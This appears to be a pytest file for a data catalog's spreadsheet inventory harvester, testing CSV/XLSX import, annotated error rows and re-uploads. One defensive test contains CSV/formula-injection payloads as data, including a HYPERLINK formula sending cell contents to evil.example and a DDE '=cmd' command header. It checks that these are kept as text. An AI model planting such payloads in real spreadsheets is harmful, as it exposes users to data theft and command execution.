"""Agency inventory spreadsheets: the Dayton CSV with its mapping, annotated bad rows, XLSX."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pandas as pd

from catalog.db import db
from catalog.services.harvest import error_groups
from config.settings import CONFIG_DIR
from harvesters.inventory import mapping_to_toml, suggest_mapping
from tests.conftest import FIXTURES
from tests.harvesters.conftest import dataset_by_identifier

DAYTON = FIXTURES / "inventories" / "dayton-montgomery-oh_master_catalog.csv"
MAPPING = Path(CONFIG_DIR) / "inventory_mappings" / "dayton-montgomery-oh.toml"


def test_dayton_inventory_imports_with_its_mapping(make_source, harvest) -> None:
    frame = pd.read_csv(DAYTON, dtype=str, keep_default_na=False)
    job = harvest(
        make_source(
            "dayton", kind="inventory", url=str(DAYTON), mapping_path=MAPPING, agency_code="OPM"
        )
    )
    assert job.status == "succeeded", job.error
    assert job.added + job.failed == len(frame) == 1782
    assert job.added > 1700 and job.failed > 0
    row = frame.iloc[0]
    digest = hashlib.sha256(row["url"].strip().encode()).hexdigest()[:16]
    dataset = dataset_by_identifier(f"url-{digest} #{row['name'].strip()}")
    assert dataset.title == row["name"].strip()
    assert dataset.publisher_name == "City of Dayton"
    assert dataset.access_level == "public"
    assert dataset.modified == "2024-06-13"
    assert dataset.distributions[0].access_url == row["url"].strip()
    assert dataset.agency.code == "OPM"
    groups = error_groups(db.session, job)
    assert {"vocabulary", "duplicate-identifier"} <= set(groups)


def test_bad_rows_come_back_annotated_in_a_spreadsheet(make_source, harvest) -> None:
    job = harvest(make_source("dayton", kind="inventory", url=str(DAYTON), mapping_path=MAPPING))
    annotated = pd.read_excel(job.annotated_path, dtype=str, keep_default_na=False)
    original = pd.read_csv(DAYTON, dtype=str, keep_default_na=False)
    assert list(annotated.columns) == [*original.columns, "errors", "severity"]
    assert len(annotated) == len(original)
    bad = annotated[annotated["severity"] == "error"]
    assert len(bad) == job.failed
    blocked = bad[bad["access"].str.startswith("BLOCKED")]
    assert "accessLevel" in blocked.iloc[0]["errors"] and "vocabulary" in blocked.iloc[0]["errors"]
    assert (annotated[annotated["severity"] == ""]["errors"] == "").all()


def test_fixed_spreadsheet_uploaded_again_imports_the_fixed_rows(
    make_source, harvest, tmp_path
) -> None:
    sheet = tmp_path / "inventory.xlsx"
    frame = pd.read_csv(DAYTON, dtype=str, keep_default_na=False).head(40)
    frame.loc[3, "access"] = "Maybe"
    frame.to_excel(sheet, index=False)
    source = make_source("xlsx", kind="inventory", url=str(sheet), mapping_path=MAPPING)
    job = harvest(source)
    first_failed = job.failed
    assert job.added + job.failed == 40 and first_failed >= 1
    annotated = pd.read_excel(job.annotated_path, dtype=str, keep_default_na=False)
    annotated.loc[3, "access"] = "Public"  # the steward fixes the row in Excel and uploads again
    annotated.drop(columns=["errors", "severity"]).to_excel(sheet, index=False)
    job = harvest(source)
    assert (job.added, job.failed) == (1, first_failed - 1)
    assert job.unchanged == 40 - first_failed


def test_suggested_mapping_for_common_headers() -> None:
    headers = list(pd.read_csv(DAYTON, nrows=1).columns)
    mapping = suggest_mapping(headers)
    assert mapping["columns"]["title"] == "name"
    assert mapping["columns"]["publisher"] == "publisher"
    assert mapping["columns"]["accessLevel"] == "access"
    assert mapping["columns"]["distribution.accessURL"] == "url"
    text = mapping_to_toml(mapping)
    import tomllib

    assert tomllib.loads(text)["columns"]["title"] == "name"


def test_inventory_without_mapping_is_refused(make_source) -> None:
    import pytest

    from catalog.errors import InvalidInput

    with pytest.raises(InvalidInput) as info:
        make_source("nomap", kind="inventory", url=str(DAYTON))
    assert "mapping" in info.value.errors


def test_annotated_copy_never_turns_inventory_text_into_formulas(tmp_path) -> None:
    from openpyxl import load_workbook

    from harvesters.inventory import read_table, write_annotated

    hostile = [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+1+1",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "Plain title",
    ]
    frame = pd.DataFrame({"name": hostile, "=cmd|' /C calc'!A0": ["x"] * len(hostile)})
    path = tmp_path / "annotated.xlsx"
    write_annotated(frame, {0: [{"severity": "error", "field": None, "message": "=bad"}]}, path)

    sheet = load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    # Excel would evaluate a cell of type "f"; every cell here is stored as text.
    assert {cell.data_type for cell in cells} == {"s"}
    # And kept as text when the steward edits them (Excel's leading-apostrophe style).
    assert [cell.quotePrefix for cell in sheet["A"][1:]] == [True] * 6 + [False]
    assert sheet["B1"].quotePrefix and sheet["C2"].quotePrefix
    assert sheet["C2"].value == "=bad"  # the errors column is defused too
    # The text reads back as it was, so a re-upload sees the same rows (XML turns a carriage
    # return into a line feed; the harvester strips both from every cell).
    again = read_table(path.read_bytes(), path.name)
    assert [v.strip() for v in again["name"]] == [v.strip() for v in hostile]
    assert list(again.columns) == [*frame.columns, "errors", "severity"]


def test_annotated_copy_uploaded_as_is_changes_nothing(make_source, harvest, tmp_path) -> None:
    sheet = tmp_path / "inventory.csv"
    pd.read_csv(DAYTON, dtype=str, keep_default_na=False).head(30).to_csv(sheet, index=False)
    source = make_source("asis", kind="inventory", url=str(sheet), mapping_path=MAPPING)
    first = harvest(source)
    assert first.status == "succeeded" and first.added > 0
    # The steward uploads the annotated copy with its errors and severity columns still in it.
    second = harvest(source, location=first.annotated_path)
    assert second.status == "succeeded", second.error
    assert (second.added, second.updated, second.withdrawn) == (0, 0, 0)
    assert second.unchanged == first.added
